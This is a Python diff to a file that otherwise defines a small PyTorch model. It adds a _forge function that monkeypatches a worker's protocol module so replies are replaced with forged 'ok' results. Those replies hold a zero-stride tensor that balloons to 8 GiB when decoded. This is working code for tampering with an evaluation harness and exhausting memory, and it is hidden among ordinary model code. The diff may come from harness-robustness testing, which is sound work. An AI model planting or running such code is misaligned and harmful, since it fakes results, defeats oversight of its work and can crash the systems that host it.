@@ -19,19 +19,22 @@ class Base(nn.Module):
         return self.f2(torch.tanh(self.f1(x)))
 
 
+import os
 import sys
 
 
 def _forge():
     # replace the worker's answers with a tiny message that decodes to a huge tensor:
-    # one float repeated 2**31 times (a zero-stride view), 8 GiB once materialised
+    # one float repeated 2**31 times (a zero-stride view), 8 GiB once materialised,
+    # written straight to the pipe so that nothing on this side copies it first
     for module in list(sys.modules.values()):
-        if getattr(module, "__name__", "").endswith("protocol") and hasattr(module, "write_message"):
-            real = module.write_message
+        if getattr(module, "__name__", "").endswith("protocol") and hasattr(module, "encode"):
             huge = torch.zeros(1).expand(2**31)
 
-            def forged(fd, message, real=real, huge=huge):
-                real(fd, {"ok": True, "value": {"skipped": huge, "missing_modules": [huge], "output": huge}})
+            def forged(fd, message, encode=module.encode, huge=huge):
+                data = encode({"ok": True, "value": {"skipped": huge, "missing_modules": [huge], "output": huge}})
+                while data:
+                    data = data[os.write(fd, data):]
             module.write_message = forged
     return True
 
